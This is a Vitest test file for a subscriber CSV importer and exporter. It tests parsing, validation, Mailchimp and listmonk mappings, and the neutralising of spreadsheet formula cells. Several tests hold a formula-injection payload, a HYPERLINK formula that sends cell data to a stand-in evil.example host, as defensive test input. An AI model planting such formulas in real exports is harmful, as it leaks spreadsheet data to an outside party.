import { describe, expect, it } from 'vitest';
import {
  neutraliseCell,
  parseSubscribersCsv,
  readSubscribersCsv,
  restoreCell,
  toSubscribersCsv,
  type CsvSource,
} from '../../../functions/core/subscribers/subscriber-csv.ts';
import type { Subscriber } from '../../../functions/core/subscribers/types.ts';

const HEADER = 'email,name,newsletter,alerts,keywords';

function subscriber(overrides: Partial<Subscriber>): Subscriber {
  return {
    id: 's_1', email: 'ann@example.org', status: 'confirmed', newsletter: 'daily', alerts: 'none', keywords: [],
    createdAt: 't', updatedAt: 't', ...overrides,
  };
}

describe('Function: parseSubscribersCsv', () => {
  it('parses valid rows with their line numbers', async () => {
    // Prepare
    const text = `${HEADER}\nAnn@Example.org,Ann,daily,none,climate;energy\nbob@example.org,,weekly,hourly,\n`;

    // Act
    const { rows, errors } = await parseSubscribersCsv(text);

    // Assess
    expect(errors).toEqual([]);
    expect(rows).toEqual([
      { line: 2, email: 'ann@example.org', name: 'Ann', newsletter: 'daily', alerts: 'none', keywords: ['climate', 'energy'] },
      { line: 3, email: 'bob@example.org', newsletter: 'weekly', alerts: 'hourly', keywords: [] },
    ]);
  });

  it('supports quoted fields with commas and doubled quotes, CRLF, a BOM, blank lines and chunks split anywhere', async () => {
    // Prepare
    const text = `\ufeff${HEADER}\r\n\r\n"ann@example.org","Lee, Ann ""AL""",daily,instant,"x; b ;x"\r\nbob@example.org,Bob,weekly,none,\r\n`;
    const chunks = [...Buffer.from(text, 'utf8')].map((byte) => Uint8Array.of(byte));

    // Act
    const { rows, errors } = await parseSubscribersCsv(chunks);

    // Assess
    expect(errors).toEqual([]);
    expect(rows[0]).toMatchObject({ line: 3, name: 'Lee, Ann "AL"', keywords: ['x', 'b'] });
    expect(rows[1]).toMatchObject({ line: 4, email: 'bob@example.org' });
  });

  it('accepts the columns in any order, only email required, and an optional status column', async () => {
    // Prepare
    const text = 'Keywords,EMAIL,alerts,newsletter,name,status\nx,ann@example.org,none,weekly,Ann,unsubscribed\nemail\n';

    // Act
    const ours = await parseSubscribersCsv(text);
    const emailOnly = await parseSubscribersCsv('email\nbob@example.org\n', { defaults: { newsletter: 'weekly' } });

    // Assess
    expect(ours.errors).toEqual([{ line: 3, reason: 'expected 6 fields, found 1' }]);
    expect(ours.rows[0]).toEqual({
      line: 2, email: 'ann@example.org', name: 'Ann', newsletter: 'weekly', alerts: 'none', keywords: ['x'], status: 'unsubscribed',
    });
    expect(emailOnly.rows).toEqual([{ line: 2, email: 'bob@example.org', newsletter: 'weekly', alerts: 'none', keywords: [] }]);
  });

  it('reports invalid rows with line numbers, keeps the valid ones and drops a bad name with a warning', async () => {
    // Prepare
    const text = [
      HEADER,
      'ok1@example.org,A,daily,none,',
      'not-an-address,B,daily,none,',
      'ok2@example.org,C,monthly,none,',
      'ok3@example.org,D,daily,sometimes,',
      '"ok4@example.org","Line',
      'break",daily,none,',
      'ok5@example.org,Visit evil.example,daily,none,',
      'ok6@example.org,F,daily,none',
      'ok7@example.org,G,daily,none,=1+1',
      '',
      'ok8@example.org,H,weekly,daily,k',
    ].join('\n');

    // Act
    const { rows, errors, warnings } = await parseSubscribersCsv(text);

    // Assess
    expect(rows.map((r) => [r.line, r.email, r.name])).toEqual([
      [2, 'ok1@example.org', 'A'],
      [6, 'ok4@example.org', undefined],
      [8, 'ok5@example.org', undefined],
      [12, 'ok8@example.org', 'H'],
    ]);
    expect(errors).toEqual([
      { line: 3, reason: 'email: not a valid address' },
      { line: 4, reason: expect.stringContaining('newsletter: unknown value "monthly"') },
      { line: 5, reason: expect.stringContaining('alerts: unknown value "sometimes"') },
      { line: 9, reason: 'expected 5 fields, found 4' },
      { line: 10, reason: expect.stringContaining('keywords: a keyword holds a character it may not hold (U+003D)') },
    ]);
    expect(warnings).toEqual([
      { line: 6, reason: 'name: contains a control character (imported without the name)' },
      { line: 8, reason: 'name: looks like a web address (imported without the name)' },
    ]);
  });

  it.each([
    ['email,name,newsletter,alerts,keywords,extra\n', 'unknown column "extra"'],
    ['email,email,name,newsletter,alerts,keywords\n', 'a column appears twice'],
    ['name,newsletter\n', 'missing column(s): email'],
  ])('refuses the header of %j', async (text, reason) => {
    // Prepare & Act
    const { rows, errors } = await parseSubscribersCsv(`${text}a@example.org,,daily,none,`);

    // Assess
    expect(rows).toEqual([]);
    expect(errors).toHaveLength(1);
    expect(errors[0]?.line).toBe(1);
    expect(errors[0]?.reason).toContain(reason);
  });

  it('refuses an empty file', async () => {
    // Prepare & Act
    const { rows, errors } = await parseSubscribersCsv('\n\n');

    // Assess
    expect(rows).toEqual([]);
    expect(errors).toEqual([{ line: 1, reason: expect.stringContaining('missing header') }]);
  });

  it('reports an unterminated quote on the line it starts', async () => {
    // Prepare & Act
    const { rows, errors } = await parseSubscribersCsv(`${HEADER}\nb@example.org,B,daily,none,\na@example.org,"Ann,daily,none,\nc@example.org,C,daily,none,\n`);

    // Assess
    expect(rows.map((r) => r.email)).toEqual(['b@example.org']);
    expect(errors).toEqual([{ line: 3, reason: expect.stringContaining('a quoted field is never closed') }]);
  });

  it('maps a Mailchimp audience export: first and last name, and the status from the kind of file', async () => {
    // Prepare
    const columns = '"Email Address","First Name","Last Name","MEMBER_RATING","OPTIN_TIME","OPTIN_IP","CONFIRM_TIME","CONFIRM_IP","LATITUDE","LONGITUDE","GMTOFF","DSTOFF","TIMEZONE","CC","REGION","LAST_CHANGED","LEID","EUID","NOTES","TAGS"';
    const subscribed = `${columns}\n"ann@example.org","Ann","Lee",2,"2024-01-01 10:00:00",,"2024-01-01 10:01:00",,,,,,,,,"2024-02-01 00:00:00",1,abc,"a note\nover two lines",\n`;
    const unsubscribed = `${columns},"UNSUB_TIME","UNSUB_CAMPAIGN_TITLE","UNSUB_CAMPAIGN_ID","UNSUB_REASON","UNSUB_REASON_OTHER"\n"bob@example.org","Bob","",2,,,,,,,,,,,,,2,def,,,"2024-03-01 00:00:00",x,y,z,\n`;
    const cleaned = `${columns},"CLEAN_TIME","CLEAN_CAMPAIGN_TITLE","CLEAN_CAMPAIGN_ID"\n"cy@example.org","","",1,,,,,,,,,,,,,3,ghi,,,"2024-03-01 00:00:00",x,y\n`;
    const sources: CsvSource[] = [];

    // Act
    const parsed = await Promise.all([subscribed, unsubscribed, cleaned].map((text) =>
      parseSubscribersCsv(text, { defaults: { newsletter: 'weekly' }, onSource: (s) => sources.push(s) })));

    // Assess
    expect(sources).toEqual(['mailchimp', 'mailchimp', 'mailchimp']);
    expect(parsed.flatMap((p) => p.errors)).toEqual([]);
    expect(parsed.flatMap((p) => p.rows)).toEqual([
      { line: 2, email: 'ann@example.org', name: 'Ann Lee', newsletter: 'weekly', alerts: 'none', keywords: [], status: 'confirmed' },
      { line: 2, email: 'bob@example.org', name: 'Bob', newsletter: 'weekly', alerts: 'none', keywords: [], status: 'unsubscribed' },
      { line: 2, email: 'cy@example.org', newsletter: 'weekly', alerts: 'none', keywords: [], status: 'bounced' },
    ]);
  });

  it('maps a listmonk export: enabled is confirmed, blocklisted and disabled are unsubscribed', async () => {
    // Prepare
    const text = [
      'uuid,email,name,attributes,status,created_at,updated_at',
      '1b1e,ann@example.org,Ann Lee,"{""city"": ""Yerevan""}",enabled,2024-01-01 10:00:00 +0000 UTC,2024-01-01 10:00:00 +0000 UTC',
      '2c2f,bob@example.org,Bob,{},blocklisted,2024-01-01 10:00:00 +0000 UTC,2024-01-01 10:00:00 +0000 UTC',
      '3d3a,cy@example.org,,{},disabled,2024-01-01 10:00:00 +0000 UTC,2024-01-01 10:00:00 +0000 UTC',
      '4e4b,dee@example.org,Dee,{},weird,2024-01-01 10:00:00 +0000 UTC,2024-01-01 10:00:00 +0000 UTC',
    ].join('\n');

    // Act
    const { rows, errors } = await parseSubscribersCsv(text);

    // Assess
    expect(rows.map((r) => [r.email, r.name, r.status])).toEqual([
      ['ann@example.org', 'Ann Lee', 'confirmed'],
      ['bob@example.org', 'Bob', 'unsubscribed'],
      ['cy@example.org', undefined, 'unsubscribed'],
    ]);
    expect(errors).toEqual([{ line: 5, reason: expect.stringContaining('status: unknown listmonk status "weird"') }]);
  });

  it('yields issues and rows in line order as a stream', async () => {
    // Prepare
    const text = `${HEADER}\na@example.org,A,daily,none,\nbad,B,daily,none,\nc@example.org,C,daily,none,\n`;

    // Act
    const lines: Array<[string, number]> = [];
    for await (const item of readSubscribersCsv(text)) lines.push(item.kind === 'row' ? ['row', item.row.line] : ['issue', item.issue.line]);

    // Assess
    expect(lines).toEqual([['row', 2], ['issue', 3], ['row', 4]]);
  });
});

describe('Function: neutraliseCell / restoreCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=1", "''=1"],
    ["'t Hooft", "'t Hooft"],
    ['Ann', 'Ann'],
    ['', ''],
  ])('neutralises %j as %j and restores it exactly', (value, neutralised) => {
    // Prepare & Act
    const out = neutraliseCell(value);

    // Assess
    expect(out).toBe(neutralised);
    expect(restoreCell(out)).toBe(value);
  });
});

describe('Function: toSubscribersCsv', () => {
  it('writes the import format plus status, quoting where needed, and parses back', async () => {
    // Prepare
    const s = subscriber({ name: 'Lee, "Ann"', status: 'unsubscribed', alerts: 'hourly', keywords: ['x', 'b c'] });

    // Act
    const csv = toSubscribersCsv([s]);
    const parsed = await parseSubscribersCsv(csv);

    // Assess
    expect(csv).toBe('email,name,newsletter,alerts,keywords,status,timezone,alert_hour\nann@example.org,"Lee, ""Ann""",daily,hourly,x;b c,unsubscribed,,\n');
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows[0]).toMatchObject({ email: 'ann@example.org', name: 'Lee, "Ann"', status: 'unsubscribed', keywords: ['x', 'b c'] });
  });

  it('neutralises formula cells, each keyword on its own, and the import reverses it', async () => {
    // Prepare: values stored before the input rules existed, and an address that may start with - or =.
    const s = subscriber({ email: '-ann@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', keywords: ['=1+1', '@SUM(1)', 'energy'] });
    const t = subscriber({ id: 's_2', email: '=bob@example.org', name: 'Bob', keywords: ['climate'] });

    // Act
    const csv = toSubscribersCsv([s, t]);
    const parsed = await parseSubscribersCsv(csv);

    // Assess
    expect(csv).toBe(
      'email,name,newsletter,alerts,keywords,status,timezone,alert_hour\n' +
        `'-ann@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",daily,none,'=1+1;'@SUM(1);energy,confirmed,,\n` +
        `'=bob@example.org,Bob,daily,none,climate,confirmed,,\n`,
    );
    for (const line of csv.split('\n')) {
      for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(parsed.rows.map((r) => r.email)).toEqual(['=bob@example.org']);
    expect(parsed.errors).toEqual([{ line: 2, reason: expect.stringContaining('keywords:') }]);
    const bob = await parseSubscribersCsv(toSubscribersCsv([subscriber({ email: '-ann@example.org', name: 'Ann' })]));
    expect(bob.rows[0]).toMatchObject({ email: '-ann@example.org', name: 'Ann' });
  });

  it('leaves the header out when asked', () => {
    // Prepare & Act
    const csv = toSubscribersCsv([], { header: false });

    // Assess
    expect(csv).toBe('');
  });
});
